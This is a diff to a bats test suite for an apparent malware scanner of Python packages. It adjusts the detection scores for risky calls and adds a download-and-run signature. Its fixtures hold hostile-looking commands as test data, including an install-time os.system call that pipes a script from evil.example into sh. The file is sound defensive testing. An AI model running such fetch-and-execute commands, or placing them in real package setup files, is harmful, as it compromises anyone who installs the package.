@@ -41,7 +41,7 @@ model.eval()
 app.exec_()
 PY
 	run hits m.py
-	assert_output "$(printf '1 CodeExecution builtins.eval import 50\n2 CodeExecution builtins.exec import 50')"
+	assert_output "$(printf '1 CodeExecution builtins.eval import 40\n2 CodeExecution builtins.exec import 40')"
 	py n.py <<'PY'
 def eval(x): return x
 eval('1')
@@ -57,7 +57,7 @@ compile('x', 'f', 'exec')
 re.compile('x')
 PY
 	run hits m.py
-	assert_output "2 CodeCompilation builtins.compile import 20"
+	assert_output "2 CodeCompilation builtins.compile import 10"
 }
 
 @test "DynamicImport: __import__ and importlib.import_module, not a method of that name" {
@@ -69,7 +69,7 @@ loader.import_module('x')
 obj.__import__('y')
 PY
 	run hits m.py
-	assert_output "$(printf '2 DynamicImport builtins.__import__ import 15\n3 DynamicImport importlib.import_module import 15')"
+	assert_output "$(printf '2 DynamicImport builtins.__import__ import 5\n3 DynamicImport importlib.import_module import 5')"
 }
 
 @test "ShellCommand: os.system through any alias, not a local function named system" {
@@ -80,7 +80,8 @@ s('curl x | sh')
 o.popen('id')
 PY
 	run hits m.py
-	assert_output "$(printf '3 ShellCommand os.system import 50\n4 ShellCommand os.popen import 50')"
+	# The command is also a DownloadAndRun string signature (tests/41-strings.bats).
+	assert_output "$(printf '3 ShellCommand os.system import 50\n3 DownloadAndRun curl x | sh import 70\n4 ShellCommand os.popen import 50')"
 	py n.py <<'PY'
 def system(cmd): print(cmd)
 system('ls')
@@ -130,7 +131,7 @@ import ctypesx
 ctypesx.CDLL('y')
 PY
 	run hits m.py
-	assert_output "$(printf '1 NativeCodeImport ctypes import 5\n2 NativeCode ctypes.CDLL import 25')"
+	assert_output "$(printf '1 NativeCodeImport ctypes import 1\n2 NativeCode ctypes.CDLL import 10')"
 }
 
 @test "UnsafeDeserialization: pickle.loads and marshal.loads, not json.loads" {
@@ -141,7 +142,7 @@ marshal.loads(b'y')
 json.loads('{}')
 PY
 	run hits m.py
-	assert_output "$(printf '2 UnsafeDeserialization pickle.loads import 40\n3 UnsafeDeserialization marshal.loads import 40')"
+	assert_output "$(printf '2 UnsafeDeserialization pickle.loads import 30\n3 UnsafeDeserialization marshal.loads import 30')"
 }
 
 @test "NetworkRequest and RawSocket: requests, urllib, socket, not dict.get" {
@@ -155,8 +156,8 @@ d.get('k')
 session.post('z')
 PY
 	run hits m.py
-	assert_output "$(printf '%s\n' '3 NetworkRequest requests.get import 30' \
-		'4 NetworkRequest urllib.request.urlopen import 30' '5 RawSocket socket.socket import 30')"
+	assert_output "$(printf '%s\n' '3 NetworkRequest requests.get import 40' \
+		'4 NetworkRequest urllib.request.urlopen import 40' '5 RawSocket socket.socket import 30')"
 }
 
 @test "EncodedData: base64.b64decode scores low; b64encode is not flagged" {
@@ -177,7 +178,7 @@ __import__('subprocess').run('id')
 PY
 	run hits m.py
 	assert_output "$(printf '%s\n' '2 ShellCommand os.system import 50' \
-		'3 ProcessExecution subprocess.run import 40' '3 DynamicImport builtins.__import__ import 15')"
+		'3 ProcessExecution subprocess.run import 40' '3 DynamicImport builtins.__import__ import 5')"
 }
 
 @test "contexts: setup.py top level is install, other files import, def bodies function" {
@@ -192,14 +193,14 @@ class Build:
 f = lambda: os.system('d')
 PY
 	run hits pkg/setup.py
-	assert_output "$(printf '%s\n' '2 ShellCommand os.system install 80' '4 ShellCommand os.system install 80' \
-		'6 ShellCommand os.system function 15' '7 ShellCommand os.system function 15')"
+	assert_output "$(printf '%s\n' '2 ShellCommand os.system install 100' '4 ShellCommand os.system install 100' \
+		'6 ShellCommand os.system function 2' '7 ShellCommand os.system function 2')"
 	run bash -c "$(declare -f scan parse_stage file_record records_of_type); scan pkg/setup.py | jq -sc 'map(select(.type == \"hit\") | .tags) | unique'"
 	assert_output '[["process"],["process","install-time"]]'
 	cp pkg/setup.py pkg/other.py
 	run hits pkg/other.py
 	assert_output "$(printf '%s\n' '2 ShellCommand os.system import 50' '4 ShellCommand os.system import 50' \
-		'6 ShellCommand os.system function 15' '7 ShellCommand os.system function 15')"
+		'6 ShellCommand os.system function 2' '7 ShellCommand os.system function 2')"
 }
 
 @test "setup commands: methods of cmdclass classes and install subclasses run at install time" {
@@ -229,13 +230,13 @@ class Helper:
 setup(name='x', cmdclass={'install': PostInstall, 'develop': Dev, 'build': Hooked})
 PY
 	run hits pkg/setup.py
-	assert_output "$(printf '%s\n' '8 ShellCommand os.system install 80' '12 ShellCommand os.system install 80' \
-		'16 ShellCommand os.system install 80' '20 ShellCommand os.system function 15')"
+	assert_output "$(printf '%s\n' '8 ShellCommand os.system install 100' '12 ShellCommand os.system install 100' \
+		'16 ShellCommand os.system install 100' '20 ShellCommand os.system function 2')"
 	# The same classes outside setup.py are ordinary code.
 	cp pkg/setup.py pkg/commands.py
 	run hits pkg/commands.py
-	assert_output "$(printf '%s\n' '8 ShellCommand os.system function 15' '12 ShellCommand os.system function 15' \
-		'16 ShellCommand os.system function 15' '20 ShellCommand os.system function 15')"
+	assert_output "$(printf '%s\n' '8 ShellCommand os.system function 2' '12 ShellCommand os.system function 2' \
+		'16 ShellCommand os.system function 2' '20 ShellCommand os.system function 2')"
 }
 
 @test "a setup.py inside a nested archive is still install context" {
@@ -254,10 +255,11 @@ PY
 	run scan setup.py
 	assert_success
 	assert_valid_records
-	[ "$(printf '%s\n' "$output" | jq -r .type | paste -sd,)" = "file,ast,hit" ]
-	printf '%s\n' "$output" | records_of_type hit >hit.json
+	# The second hit is the DownloadAndRun string signature of the same command.
+	[ "$(printf '%s\n' "$output" | jq -r .type | paste -sd,)" = "file,ast,hit,hit" ]
+	printf '%s\n' "$output" | records_of_type hit | jq -c 'select(.detection == "ShellCommand")' >hit.json
 	run jq -c '[.stage, .artifact, .detection, .score, .severity, .path, .line, .col, .file, .name, .context, .tags, .evidence, .message]' hit.json
-	assert_output '["aura-analyze","a","ShellCommand",80,"high","setup.py",2,0,"a:0","os.system","install",["process","install-time"],"os.system('"'"'curl http://evil.example/x.sh | sh'"'"')","os.system() runs a shell command at install time"]'
+	assert_output '["aura-analyze","a","ShellCommand",100,"high","setup.py",2,0,"a:0","os.system","install",["process","install-time"],"os.system('"'"'curl http://evil.example/x.sh | sh'"'"')","os.system() runs a shell command at install time"]'
 }
 
 @test "evidence is capped at 200 bytes and stays valid UTF-8" {
